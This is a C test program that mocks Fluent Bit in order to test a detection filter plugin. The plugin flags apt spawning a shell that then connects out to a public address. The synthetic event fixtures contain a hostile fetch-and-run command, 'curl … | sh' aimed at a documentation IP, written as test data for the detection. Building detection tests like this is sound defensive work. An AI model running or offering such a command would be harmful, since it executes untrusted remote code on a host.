/*
 * A mock Fluent Bit (3.2 … 5.1) that loads libapt_netcon.so as a native
 * filter plugin, the way the real one does, and checks what the plugin does.
 *
 *   mock_fluentbit            run every test
 *   mock_fluentbit test_x     run one (ctest registers each one this way)
 *
 * What Fluent Bit does, and this program too:
 *   - the plugin file is named flb-filter_<name>.so; it is dlopen()ed with
 *     RTLD_LAZY, the symbol name is derived from the file name
 *     ("flb-" and ".so" stripped, "_plugin" appended) and looked up with
 *     dlsym(); sizeof(struct flb_filter_plugin) = 88 bytes are copied out;
 *   - the executable exports flb_filter_get_property(), flb_filter_set_context(),
 *     flb_filter_name() and flb_log_print() (this one is linked with
 *     -rdynamic), which the plugin finds with dlsym(RTLD_DEFAULT, ...);
 *   - before cb_init, flb_filter_init() checks the instance's properties
 *     against the plugin's config_map when it has one (Fluent Bit's
 *     flb_filter_plugin_property_check(): flb_config_map_create() copies the
 *     entries up to the one whose name is NULL, translating the default of
 *     those with set_property; flb_config_map_properties_check() refuses a
 *     property whose name is no entry's — case-insensitive, "active" and
 *     "condition" let through — or that is given twice without
 *     FLB_CONFIG_MAP_MULT, logging "[config] <plugin>: unknown configuration
 *     property '<key>'. The following properties are allowed: …"); then
 *     cb_init is never called and Fluent Bit does not start. The core
 *     properties (match, alias, log_level, …) never reach that list, so the
 *     tests' property lists hold only the plugin's;
 *   - cb_init(f_ins, config, data) → cb_filter(data, bytes, tag, tag_len,
 *     &out_buf, &out_bytes, f_ins, i_ins, context, config) per chunk →
 *     cb_exit(context, config); a MODIFIED chunk is released with free();
 *   - hot reload: cb_exit, dlclose(), dlopen() again, cb_init again.
 *
 * APTNC_SO (set by CMakeLists.txt) is the library cargo built.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef APTNC_SO
#error "APTNC_SO must name the built libapt_netcon.so"
#endif

#define RULE_ID "eaef8a35-12e0-4ac0-bc14-81c72b6bd27c"

static int failures;

#define CHECK(cond)                                                                        \
    do {                                                                                   \
        if (!(cond)) {                                                                     \
            fprintf(stderr, "%s:%d: %s: CHECK(%s) failed\n", __FILE__, __LINE__, __func__, \
                    #cond);                                                                \
            failures++;                                                                    \
        }                                                                                  \
    } while (0)

#define CHECK_INT(got, want)                                                               \
    do {                                                                                   \
        long long got_ = (got), want_ = (want);                                            \
        if (got_ != want_) {                                                               \
            fprintf(stderr, "%s:%d: %s: %s = %lld, expected %lld\n", __FILE__, __LINE__,    \
                    __func__, #got, got_, want_);                                          \
            failures++;                                                                    \
        }                                                                                  \
    } while (0)

/* ------------------------------------------------------------------------ */
/* struct flb_filter_plugin of Fluent Bit 3.2 … 5.1 (x86-64). */

struct flb_filter_plugin {
    int event_type;
    int flags;
    char *name;
    char *description;
    void *config_map;
    int (*cb_pre_run)(void *f_ins, void *config, void *data);
    int (*cb_init)(void *f_ins, void *config, void *data);
    int (*cb_filter)(const void *data, size_t bytes, const char *tag, int tag_len,
                     void **out_buf, size_t *out_bytes, void *f_ins, void *i_ins, void *context,
                     void *config);
    int (*cb_exit)(void *context, void *config);
    int (*cb_notification)(void *f_ins, void *config, void *data);
    void *list_prev, *list_next;
};

_Static_assert(sizeof(struct flb_filter_plugin) == 88, "struct flb_filter_plugin is 88 bytes");
_Static_assert(offsetof(struct flb_filter_plugin, cb_init) == 40, "cb_init at 40");
_Static_assert(offsetof(struct flb_filter_plugin, cb_filter) == 48, "cb_filter at 48");
_Static_assert(offsetof(struct flb_filter_plugin, cb_exit) == 56, "cb_exit at 56");
_Static_assert(offsetof(struct flb_filter_plugin, list_prev) == 72, "list head at 72");

#define FLB_FILTER_MODIFIED 1
#define FLB_FILTER_NOTOUCH 2

/* struct flb_config_map of Fluent Bit 1.5 … 5.1 (x86-64): what a plugin
 * declares; the host keeps the rest (value, list head) in its own copies. */
struct flb_config_map {
    int type;
    char *name;
    char *def_value;
    int flags;
    int set_property;
    uintptr_t offset;
    char *desc;
    void *value[4]; /* struct flb_config_map_val */
    void *head[2];  /* struct mk_list */
};

_Static_assert(sizeof(struct flb_config_map) == 96, "struct flb_config_map is 96 bytes");
_Static_assert(offsetof(struct flb_config_map, desc) == 40, "desc at 40");

#define FLB_CONFIG_MAP_STR 0
#define FLB_CONFIG_MAP_STR_PREFIX 1
#define FLB_CONFIG_MAP_INT 2
#define FLB_CONFIG_MAP_BOOL 3
#define FLB_CONFIG_MAP_DEPRECATED 7
#define FLB_CONFIG_MAP_CLIST 30
#define FLB_CONFIG_MAP_SLIST_4 44
#define FLB_CONFIG_MAP_VARIANT 50
#define FLB_CONFIG_MAP_MULT 1

/* ------------------------------------------------------------------------ */
/* The host side: a filter instance and the functions Fluent Bit exports. */

struct prop {
    const char *key;
    const char *value;
};

struct filter_instance {
    const char *name; /* "apt_netcon.0", as Fluent Bit names instances */
    const struct prop *props;
    size_t n_props;
    void *context;
    int set_context_calls;
};

/* Exported from the executable (ENABLE_EXPORTS / -rdynamic). */
const char *flb_filter_get_property(const char *key, void *ins);
void flb_filter_set_context(void *ins, void *context);
const char *flb_filter_name(void *ins);
void flb_log_print(int type, const char *file, int line, const char *fmt, ...);

/* Property keys are case-insensitive in Fluent Bit. */
const char *flb_filter_get_property(const char *key, void *ins) {
    struct filter_instance *f = ins;
    for (size_t i = 0; i < f->n_props; i++)
        if (strcasecmp(f->props[i].key, key) == 0) return f->props[i].value;
    return NULL;
}

void flb_filter_set_context(void *ins, void *context) {
    struct filter_instance *f = ins;
    f->context = context;
    f->set_context_calls++;
}

const char *flb_filter_name(void *ins) {
    return ((struct filter_instance *)ins)->name;
}

/* Everything the plugin logged, for the tests to look at. */
static char log_text[1 << 16];
static size_t log_len;

void flb_log_print(int type, const char *file, int line, const char *fmt, ...) {
    static const char *const levels[] = {"off", "error", "warn", "info", "debug", "trace"};
    char msg[4096];
    va_list ap;
    (void)file;
    (void)line;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof msg, fmt, ap);
    va_end(ap);
    const char *level = type >= 0 && type <= 5 ? levels[type] : "?";
    int n = snprintf(log_text + log_len, sizeof log_text - log_len, "[%s] %s\n", level, msg);
    if (n > 0) {
        size_t room = sizeof log_text - log_len;
        log_len += (size_t)n < room ? (size_t)n : room - 1;
    }
    fprintf(stderr, "[mock flb] [%5s] %s\n", level, msg);
}

static void log_clear(void) {
    log_len = 0;
    log_text[0] = '\0';
}

static int logged(const char *needle) {
    return strstr(log_text, needle) != NULL;
}

/* How many times `needle` was logged. */
static int logged_times(const char *needle) {
    int n = 0;
    for (const char *p = strstr(log_text, needle); p; p = strstr(p + 1, needle)) n++;
    return n;
}

/* The host's own messages (flb_error() and co. in Fluent Bit). */
static void host_log(int type, const char *fmt, ...) {
    char msg[8192];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof msg, fmt, ap);
    va_end(ap);
    flb_log_print(type, NULL, 0, "%s", msg);
}

/* ------------------------------------------------------------------------ */
/* Loading the plugin as Fluent Bit does. */

struct plugin {
    char dir[64];
    char path[128];
    void *handle;
    struct flb_filter_plugin p; /* the host's own copy */
};

static int copy_file(const char *from, const char *to) {
    int in = open(from, O_RDONLY), out = -1, ok = 0;
    if (in < 0) goto done;
    out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (out < 0) goto done;
    char block[1 << 16];
    ssize_t n;
    while ((n = read(in, block, sizeof block)) > 0)
        if (write(out, block, (size_t)n) != n) goto done;
    ok = n == 0;
done:
    if (in >= 0) close(in);
    if (out >= 0 && close(out) != 0) ok = 0;
    return ok;
}

/* "…/flb-filter_apt_netcon.so" → "filter_apt_netcon_plugin" (NULL if the
 * name does not follow the flb-<type>_<name>.so pattern). */
static char *symbol_for(const char *path) {
    char *copy = strdup(path);
    if (!copy) return NULL;
    const char *base = basename(copy);
    size_t len = strlen(base);
    char *sym = NULL;
    if (len > 7 && strncmp(base, "flb-", 4) == 0 && strcmp(base + len - 3, ".so") == 0) {
        size_t stem = len - 4 - 3;
        sym = malloc(stem + sizeof "_plugin");
        if (sym) {
            memcpy(sym, base + 4, stem);
            strcpy(sym + stem, "_plugin");
        }
    }
    free(copy);
    return sym;
}

static int plugin_load(struct plugin *pl) {
    memset(pl, 0, sizeof *pl);
    strcpy(pl->dir, "/tmp/mock_fluentbit.XXXXXX");
    if (!mkdtemp(pl->dir)) {
        perror("mkdtemp");
        return 0;
    }
    snprintf(pl->path, sizeof pl->path, "%s/flb-filter_apt_netcon.so", pl->dir);
    if (!copy_file(APTNC_SO, pl->path)) {
        fprintf(stderr, "cannot copy %s to %s: %s\n", APTNC_SO, pl->path, strerror(errno));
        return 0;
    }
    pl->handle = dlopen(pl->path, RTLD_LAZY);
    if (!pl->handle) {
        fprintf(stderr, "dlopen: %s\n", dlerror());
        return 0;
    }
    char *sym = symbol_for(pl->path);
    if (!sym) return 0;
    dlerror();
    void *s = dlsym(pl->handle, sym);
    const char *err = dlerror();
    free(sym);
    if (err || !s) {
        fprintf(stderr, "dlsym: %s\n", err ? err : "NULL");
        return 0;
    }
    memcpy(&pl->p, s, sizeof pl->p);
    return 1;
}

static void plugin_unload(struct plugin *pl) {
    if (pl->handle) CHECK(dlclose(pl->handle) == 0);
    if (pl->path[0]) unlink(pl->path);
    if (pl->dir[0]) rmdir(pl->dir);
    pl->handle = NULL;
}

/* ------------------------------------------------------------------------ */
/* MessagePack, written by hand. */

typedef struct {
    uint8_t *p;
    size_t len, cap;
} buf;

static void put(buf *b, const void *data, size_t n) {
    if (b->len + n > b->cap) {
        size_t cap = b->cap ? b->cap * 2 : 512;
        while (cap < b->len + n) cap *= 2;
        uint8_t *p = realloc(b->p, cap);
        if (!p) abort();
        b->p = p;
        b->cap = cap;
    }
    if (n) memcpy(b->p + b->len, data, n);
    b->len += n;
}

static void buf_free(buf *b) {
    free(b->p);
    memset(b, 0, sizeof *b);
}

static void mp_u8(buf *b, uint8_t x) { put(b, &x, 1); }
static void mp_be32(buf *b, uint32_t x) {
    uint8_t a[4] = {(uint8_t)(x >> 24), (uint8_t)(x >> 16), (uint8_t)(x >> 8), (uint8_t)x};
    put(b, a, 4);
}
static void mp_map(buf *b, unsigned n) { mp_u8(b, (uint8_t)(0x80 | n)); } /* n < 16 */
static void mp_arr(buf *b, unsigned n) { mp_u8(b, (uint8_t)(0x90 | n)); } /* n < 16 */
static void mp_str(buf *b, const char *s) {
    size_t n = strlen(s);
    if (n < 32) {
        mp_u8(b, (uint8_t)(0xa0 | n));
    } else {
        mp_u8(b, 0xd9);
        mp_u8(b, (uint8_t)n); /* n < 256 */
    }
    put(b, s, n);
}
static void mp_uint(buf *b, uint32_t x) {
    if (x < 128) {
        mp_u8(b, (uint8_t)x);
    } else {
        mp_u8(b, 0xce);
        mp_be32(b, x);
    }
}
static void kv(buf *b, const char *k, const char *v) {
    mp_str(b, k);
    mp_str(b, v);
}

/* [[EventTime(sec, nsec), {}], — the body follows. */
static void rec_head(buf *b, uint32_t sec, uint32_t nsec) {
    mp_arr(b, 2);
    mp_arr(b, 2);
    mp_u8(b, 0xd7);
    mp_u8(b, 0x00);
    mp_be32(b, sec);
    mp_be32(b, nsec);
    mp_map(b, 0);
}

/* A group start (0xFFFFFFFF) or end (0xFFFFFFFE) marker. */
static void group_marker(buf *b, uint32_t sec) {
    rec_head(b, sec, 0);
    mp_map(b, 1);
    kv(b, "resource", "endpoint");
}

static void host(buf *b) {
    mp_str(b, "host");
    mp_map(b, 3);
    kv(b, "id", "7d3f0c2a9b1e4d6f8a2c5e7b9d1f3a5c");
    kv(b, "name", "deb-web-01");
    mp_str(b, "os");
    mp_map(b, 2);
    kv(b, "type", "linux");
    kv(b, "family", "debian");
}

static void event(buf *b, const char *category, const char *action, const char *id) {
    mp_str(b, "event");
    mp_map(b, 4);
    mp_str(b, "category");
    mp_arr(b, 1);
    mp_str(b, category);
    mp_str(b, "type");
    mp_arr(b, 1);
    mp_str(b, "start");
    kv(b, "action", action);
    kv(b, "id", id);
}

#define SH_ENTITY "YjZjOGUwZjItMWEzYy00ZTVmLTlhN2ItMmM0ZDZlOGYwYTFiLTIzMTAtOTAw"

/* Not in the rule: `ls` started by bash. */
static void rec_ls(buf *b) {
    rec_head(b, 1773480600, 0);
    mp_map(b, 4);
    kv(b, "@timestamp", "2026-03-14T09:30:00.0000000Z");
    event(b, "process", "exec", "NxQ2a8dKv3Lm0001");
    host(b);
    mp_str(b, "process");
    mp_map(b, 5);
    kv(b, "name", "ls");
    mp_str(b, "pid");
    mp_uint(b, 2201);
    mp_str(b, "args");
    mp_arr(b, 2);
    mp_str(b, "ls");
    mp_str(b, "-la");
    kv(b, "entity_id", "LS1");
    mp_str(b, "parent");
    mp_map(b, 2);
    kv(b, "name", "bash");
    kv(b, "entity_id", "BASH1");
}

/* Stage 1: apt runs `sh -c 'curl … | sh'`; `timestamp` 0: without
 * @timestamp (what a parser with `Time_Key @timestamp` leaves). */
static void rec_apt_sh_ts(buf *b, int timestamp) {
    rec_head(b, 1773480600, 900123400);
    mp_map(b, timestamp ? 4 : 3);
    if (timestamp) kv(b, "@timestamp", "2026-03-14T09:30:00.9001234Z");
    event(b, "process", "exec", "hook-exec-0001");
    host(b);
    mp_str(b, "process");
    mp_map(b, 6);
    kv(b, "name", "sh");
    mp_str(b, "pid");
    mp_uint(b, 2310);
    mp_str(b, "args");
    mp_arr(b, 3);
    mp_str(b, "sh");
    mp_str(b, "-c");
    mp_str(b, "curl -fsSL http://203.0.113.50/u.sh | sh");
    kv(b, "command_line", "sh -c curl -fsSL http://203.0.113.50/u.sh | sh");
    kv(b, "entity_id", SH_ENTITY);
    mp_str(b, "parent");
    mp_map(b, 3);
    kv(b, "name", "apt");
    mp_str(b, "pid");
    mp_uint(b, 2300);
    kv(b, "entity_id", "YjZjOGUwZjItMWEzYy00ZTVmLTlhN2ItMmM0ZDZlOGYwYTFiLTIzMDAtNDAw");
}

static void rec_apt_sh(buf *b) { rec_apt_sh_ts(b, 1); }

/* A log line that no parser read: {"log": "<the JSON text>"}. */
static void rec_unparsed(buf *b) {
    rec_head(b, 1773480600, 0);
    mp_map(b, 1);
    kv(b, "log",
       "{\"@timestamp\":\"2026-03-14T09:30:00.9Z\",\"event\":{\"action\":\"exec\"},"
       "\"process\":{\"name\":\"sh\",\"parent\":{\"name\":\"apt\"}}}");
}

/* A connection by the shell's child (curl) to `ip`. */
static void rec_curl_connect(buf *b, uint32_t sec, const char *ts, const char *id,
                             const char *ip) {
    rec_head(b, sec, 134567800);
    mp_map(b, 5);
    kv(b, "@timestamp", ts);
    event(b, "network", "connection_attempted", id);
    host(b);
    mp_str(b, "process");
    mp_map(b, 4);
    kv(b, "name", "curl");
    mp_str(b, "pid");
    mp_uint(b, 2311);
    kv(b, "entity_id", "YjZjOGUwZjItMWEzYy00ZTVmLTlhN2ItMmM0ZDZlOGYwYTFiLTIzMTEtMTA1MA==");
    mp_str(b, "parent");
    mp_map(b, 2);
    mp_str(b, "pid");
    mp_uint(b, 2310);
    kv(b, "entity_id", SH_ENTITY);
    mp_str(b, "destination");
    mp_map(b, 2);
    kv(b, "ip", ip);
    mp_str(b, "port");
    mp_uint(b, 443);
}

/* Not in the rule: a file event. */
static void rec_file(buf *b) {
    rec_head(b, 1773480601, 0);
    mp_map(b, 4);
    kv(b, "@timestamp", "2026-03-14T09:30:01.5000000Z");
    event(b, "file", "creation", "NxQ2a8dKv3Lm0002");
    host(b);
    mp_str(b, "file");
    mp_map(b, 1);
    kv(b, "path", "/var/log/syslog.1");
}

/* Chunk 1: group start, `ls`, the apt shell (stage 1), group end. No alert. */
static void chunk1(buf *b) {
    group_marker(b, 0xFFFFFFFFu);
    rec_ls(b);
    rec_apt_sh(b);
    group_marker(b, 0xFFFFFFFEu);
}

#define CHUNK2_RECORDS 6
#define CHUNK2_ALERT 3 /* index of the completing record */

/* Chunk 2: group start, a file event, curl to a private address (no
 * match), curl to a public address (completes the sequence), `ls`, group end. */
static void chunk2(buf *b) {
    group_marker(b, 0xFFFFFFFFu);
    rec_file(b);
    rec_curl_connect(b, 1773480601, "2026-03-14T09:30:01.8000000Z", "net-private", "10.20.0.1");
    rec_curl_connect(b, 1773480602, "2026-03-14T09:30:02.1345678Z", "hook-net-0001",
                     "45.33.32.156");
    rec_ls(b);
    group_marker(b, 0xFFFFFFFEu);
}

/* ------------------------------------------------------------------------ */
/* Reading MessagePack back: just enough to split a chunk into records. */

static int rd(const uint8_t *p, size_t n, size_t *pos, size_t k, uint64_t *out) {
    if (n - *pos < k) return 0;
    uint64_t v = 0;
    for (size_t i = 0; i < k; i++) v = (v << 8) | p[*pos + i];
    *pos += k;
    *out = v;
    return 1;
}

/* Skip one value at *pos (iteratively); 0 when malformed or truncated. */
static int mp_skip(const uint8_t *p, size_t n, size_t *pos) {
    uint64_t pending = 1, len;
    while (pending > 0) {
        pending--;
        if (*pos >= n) return 0;
        uint8_t m = p[(*pos)++];
        if (m <= 0x7f || m >= 0xe0 || m == 0xc0 || m == 0xc2 || m == 0xc3) continue;
        if (m >= 0x80 && m <= 0x8f) { pending += 2u * (m & 0x0f); continue; }
        if (m >= 0x90 && m <= 0x9f) { pending += m & 0x0f; continue; }
        if (m >= 0xa0 && m <= 0xbf) { len = m & 0x1f; goto bytes; }
        switch (m) {
        case 0xc4: case 0xd9: if (!rd(p, n, pos, 1, &len)) return 0; goto bytes;
        case 0xc5: case 0xda: if (!rd(p, n, pos, 2, &len)) return 0; goto bytes;
        case 0xc6: case 0xdb: if (!rd(p, n, pos, 4, &len)) return 0; goto bytes;
        case 0xc7: if (!rd(p, n, pos, 1, &len)) return 0; len += 1; goto bytes;
        case 0xc8: if (!rd(p, n, pos, 2, &len)) return 0; len += 1; goto bytes;
        case 0xc9: if (!rd(p, n, pos, 4, &len)) return 0; len += 1; goto bytes;
        case 0xca: len = 4; goto bytes;
        case 0xcb: len = 8; goto bytes;
        case 0xcc: case 0xd0: len = 1; goto bytes;
        case 0xcd: case 0xd1: len = 2; goto bytes;
        case 0xce: case 0xd2: len = 4; goto bytes;
        case 0xcf: case 0xd3: len = 8; goto bytes;
        case 0xd4: len = 2; goto bytes;
        case 0xd5: len = 3; goto bytes;
        case 0xd6: len = 5; goto bytes;
        case 0xd7: len = 9; goto bytes;
        case 0xd8: len = 17; goto bytes;
        case 0xdc: if (!rd(p, n, pos, 2, &len)) return 0; pending += len; continue;
        case 0xdd: if (!rd(p, n, pos, 4, &len)) return 0; pending += len; continue;
        case 0xde: if (!rd(p, n, pos, 2, &len)) return 0; pending += 2 * len; continue;
        case 0xdf: if (!rd(p, n, pos, 4, &len)) return 0; pending += 2 * len; continue;
        default: return 0; /* 0xc1 */
        }
    bytes:
        if (n - *pos < len) return 0;
        *pos += len;
    }
    return 1;
}

struct span {
    size_t start, len;
};

/* Split a chunk into its records; returns the count, or -1 if malformed. */
static int split(const uint8_t *p, size_t n, struct span *recs, int max) {
    size_t pos = 0;
    int count = 0;
    while (pos < n) {
        if (count == max) return -1;
        size_t start = pos;
        if (!mp_skip(p, n, &pos)) return -1;
        recs[count].start = start;
        recs[count].len = pos - start;
        count++;
    }
    return count;
}

static int contains(const uint8_t *p, size_t n, const char *needle) {
    size_t k = strlen(needle);
    for (size_t i = 0; i + k <= n; i++)
        if (memcmp(p + i, needle, k) == 0) return 1;
    return 0;
}

/* ------------------------------------------------------------------------ */
/* Driving the plugin. */

static const struct prop DEFAULT_PROPS[] = {
    {"rule", "apt_netcon_v5"},
    {"max_pending_sequences", "1000"},
};

static void instance_init(struct filter_instance *ins, const struct prop *props, size_t n) {
    memset(ins, 0, sizeof *ins);
    ins->name = "apt_netcon.0";
    ins->props = props;
    ins->n_props = n;
}

static int config_token; /* stands for struct flb_config */
static int input_token;  /* stands for struct flb_input_instance */

/* cb_filter as Fluent Bit calls it. */
static int run(struct plugin *pl, struct filter_instance *ins, const buf *chunk, void **out,
               size_t *out_len) {
    static const char tag[] = "endpoint.events";
    *out = NULL;
    *out_len = 0;
    return pl->p.cb_filter(chunk->p, chunk->len, tag, (int)(sizeof tag - 1), out, out_len, ins,
                           &input_token, ins->context, &config_token);
}

/* Chunk 1, then chunk 2: the second comes back MODIFIED with the alert in
 * its fourth record and every other record byte for byte. */
static void check_sequence(struct plugin *pl, struct filter_instance *ins, const char *expect) {
    buf c1 = {0}, c2 = {0};
    chunk1(&c1);
    chunk2(&c2);
    void *out;
    size_t out_len;

    CHECK_INT(run(pl, ins, &c1, &out, &out_len), FLB_FILTER_NOTOUCH);
    CHECK(out == NULL && out_len == 0);

    CHECK_INT(run(pl, ins, &c2, &out, &out_len), FLB_FILTER_MODIFIED);
    CHECK(out != NULL && out_len > c2.len);
    if (out) {
        struct span in[16], got[16];
        int n_in = split(c2.p, c2.len, in, 16);
        int n_out = split(out, out_len, got, 16);
        CHECK_INT(n_in, CHUNK2_RECORDS);
        CHECK_INT(n_out, CHUNK2_RECORDS);
        for (int i = 0; i < n_in && i < n_out; i++) {
            const uint8_t *a = c2.p + in[i].start, *b = (const uint8_t *)out + got[i].start;
            if (i != CHUNK2_ALERT) {
                CHECK(in[i].len == got[i].len && memcmp(a, b, in[i].len) == 0);
                continue;
            }
            /* Outer array, [EventTime, {}] header: 1 + 1 + 10 + 1 bytes kept. */
            CHECK(got[i].len > in[i].len);
            CHECK(memcmp(a, b, 13) == 0);
            CHECK(contains(b, got[i].len, RULE_ID));
            CHECK(contains(b, got[i].len, "hook-net-0001"));
            CHECK(contains(b, got[i].len, expect));
            CHECK(!contains(a, in[i].len, RULE_ID));
        }
        free(out); /* as Fluent Bit does */
    }

    /* The sequence was consumed: the same chunk again is no alert. */
    CHECK_INT(run(pl, ins, &c2, &out, &out_len), FLB_FILTER_NOTOUCH);
    CHECK(out == NULL);
    buf_free(&c1);
    buf_free(&c2);
}

/* flb_config_map_create() + flb_config_map_properties_check(), as Fluent
 * Bit runs them in flb_filter_plugin_property_check(): 0, or -1 with the
 * host's message logged. */
static int property_check(const struct plugin *pl, const struct filter_instance *ins) {
    const struct flb_config_map *map = pl->p.config_map;
    if (!map) return 0; /* no map: every property reaches the plugin */
    size_t n_map = 0;
    for (const struct flb_config_map *m = map; m->name; m++, n_map++) {
        /* What create() does with an entry: a known type; a default only
         * translated (and so only checked) when set_property is set. */
        int known = (m->type >= FLB_CONFIG_MAP_STR && m->type <= FLB_CONFIG_MAP_DEPRECATED) ||
                    (m->type >= FLB_CONFIG_MAP_CLIST && m->type <= FLB_CONFIG_MAP_SLIST_4) ||
                    m->type == FLB_CONFIG_MAP_VARIANT;
        if (!known || (m->set_property && m->def_value && m->type == FLB_CONFIG_MAP_STR_PREFIX)) {
            host_log(1, "[filter] error loading config map for '%s' plugin", pl->p.name);
            return -1;
        }
    }
    for (size_t i = 0; i < ins->n_props; i++) {
        const char *key = ins->props[i].key;
        if (strcasecmp(key, "active") == 0 || strcasecmp(key, "condition") == 0) continue;
        const struct flb_config_map *found = NULL;
        for (size_t j = 0; j < n_map && !found; j++)
            if (strlen(map[j].name) == strlen(key) && strcasecmp(map[j].name, key) == 0)
                found = &map[j];
        if (!found) {
            char allowed[8192] = "The following properties are allowed: ";
            for (size_t j = 0; j < n_map; j++) {
                size_t len = strlen(allowed);
                snprintf(allowed + len, sizeof allowed - len,
                         j + 1 < n_map ? "%s, " : (n_map == 1 ? "%s." : "and %s."), map[j].name);
            }
            host_log(1, "[config] %s: unknown configuration property '%s'. %s", pl->p.name, key,
                     allowed);
            return -1;
        }
        int count = 0;
        for (size_t j = 0; j < ins->n_props; j++)
            if (strcmp(ins->props[j].key, key) == 0) count++; /* property_count(): exact */
        if (!(found->flags & FLB_CONFIG_MAP_MULT) && count > 1) {
            host_log(1, "[config] %s: configuration property '%s' is set %i times", pl->p.name,
                     key, count);
            return -1;
        }
    }
    return 0;
}

/* flb_filter_init(): the property check, then cb_init. */
static int start(struct plugin *pl, struct filter_instance *ins, const struct prop *props,
                 size_t n) {
    instance_init(ins, props, n);
    if (property_check(pl, ins) != 0) return -1;
    return pl->p.cb_init(ins, &config_token, NULL);
}

/* ------------------------------------------------------------------------ */
/* Tests. */

static void test_plugin_symbol(void) {
    struct plugin pl;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    CHECK_INT(pl.p.event_type, 0);
    CHECK(pl.p.name && strcmp(pl.p.name, "apt_netcon") == 0);
    CHECK(pl.p.description && pl.p.description[0] != '\0');
    /* The config map: config_file, then every config key, as text. */
    const struct flb_config_map *map = pl.p.config_map;
    CHECK(map != NULL);
    int n = 0, has_max = 0, has_interval = 0;
    for (const struct flb_config_map *m = map; map && m->name; m++, n++) {
        CHECK_INT(m->type, FLB_CONFIG_MAP_STR);
        CHECK(m->def_value == NULL);
        CHECK_INT(m->set_property, 0);
        CHECK_INT(m->flags, 0);
        CHECK(m->desc && m->desc[0] != '\0');
        has_max |= strcmp(m->name, "max_pending_sequences") == 0;
        has_interval |= strcmp(m->name, "stats_interval") == 0;
    }
    CHECK(map && strcmp(map[0].name, "config_file") == 0);
    CHECK(n > 20);
    CHECK(has_max && has_interval);
    CHECK(pl.p.cb_pre_run == NULL);
    CHECK(pl.p.cb_init && pl.p.cb_filter && pl.p.cb_exit);
    CHECK(pl.p.cb_notification == NULL);
    CHECK(pl.p.list_prev == NULL && pl.p.list_next == NULL);
    plugin_unload(&pl);
}

static void test_pipeline(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    log_clear();
    CHECK_INT(start(&pl, &ins, DEFAULT_PROPS, 2), 0);
    CHECK_INT(ins.set_context_calls, 1);
    CHECK(ins.context != NULL);
    /* Logged through the host's flb_log_print, named after the instance. */
    CHECK(logged("[info] [filter:apt_netcon:apt_netcon.0] rule"));
    CHECK(logged("properties: rule, max_pending_sequences"));
    if (ins.context) {
        check_sequence(&pl, &ins, "kibana");

        /* Only unrelated records: not touched. */
        buf c = {0};
        rec_ls(&c);
        rec_file(&c);
        void *out;
        size_t out_len;
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);
        CHECK(out == NULL && out_len == 0);
        buf_free(&c);
        /* An empty chunk: not touched. */
        CHECK_INT(run(&pl, &ins, &c, &out, &out_len), FLB_FILTER_NOTOUCH);

        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
        CHECK(logged("exit: chunks=5 modified=1 records_annotated=1 malformed=0"));
        /* No stats_interval: no periodic line; parsed records: no warning. */
        CHECK(!logged("counters:"));
        CHECK(!logged("[warn]"));
    }
    plugin_unload(&pl);
}

static void test_reload(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    CHECK_INT(start(&pl, &ins, DEFAULT_PROPS, 2), 0);
    if (ins.context) {
        check_sequence(&pl, &ins, "kibana");
        /* Stage 1 pending when the host reloads. */
        buf c1 = {0};
        chunk1(&c1);
        void *out;
        size_t out_len;
        CHECK_INT(run(&pl, &ins, &c1, &out, &out_len), FLB_FILTER_NOTOUCH);
        buf_free(&c1);
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
    }
    plugin_unload(&pl);

    /* SIGHUP: everything again, from a fresh dlopen. */
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;
    CHECK_INT(start(&pl, &ins, DEFAULT_PROPS, 2), 0);
    if (ins.context) {
        /* Nothing survived the reload: chunk 2 alone completes nothing. */
        buf c2 = {0};
        chunk2(&c2);
        void *out;
        size_t out_len;
        CHECK_INT(run(&pl, &ins, &c2, &out, &out_len), FLB_FILTER_NOTOUCH);
        buf_free(&c2);
        check_sequence(&pl, &ins, "kibana");
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
    }
    plugin_unload(&pl);
}

static void test_bad_property(void) {
    struct plugin pl;
    struct filter_instance ins;
    CHECK(plugin_load(&pl));
    if (!pl.handle) return;

    static const struct prop bad_span[] = {{"rule", "apt_netcon_v5"}, {"maxspan", "soon"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, bad_span, 2), -1);
    CHECK_INT(ins.set_context_calls, 0);
    CHECK(logged("[error] [filter:apt_netcon:apt_netcon.0] property `maxspan`:"));
    CHECK(logged("the filter does not start"));

    static const struct prop bad_rule[] = {{"rule", "apt_netcon_v99"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, bad_rule, 1), -1);
    CHECK_INT(ins.set_context_calls, 0);
    CHECK(logged("property `rule`:"));

    static const struct prop bad_bool[] = {{"kibana_fields", "perhaps"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, bad_bool, 1), -1);
    CHECK(logged("property `kibana_fields`:"));

    static const struct prop bad_cidr[] = {{"trusted_destination_cidrs", "10.0.0.0/8, nowhere"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, bad_cidr, 1), -1);
    CHECK(logged("property `trusted_destination_cidrs`:"));

    static const struct prop no_file[] = {{"rule_file", "/nonexistent/apt.eql"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, no_file, 1), -1);
    CHECK(logged("property `rule_file`:"));

    /* Keys are matched case-insensitively by the host: a valid mixed-case
     * key works (here: the other built-in rule, which also alerts). */
    static const struct prop mixed[] = {{"Rule", "apt_netcon_v11"}, {"KIBANA_FIELDS", "off"}};
    log_clear();
    CHECK_INT(start(&pl, &ins, mixed, 2), 0);
    if (ins.context) {
        check_sequence(&pl, &ins, "apt_netcon");
        CHECK_INT(pl.p.cb_exit(ins.context, &config_token), 0);
    }
    plugin_unload(&pl);
}

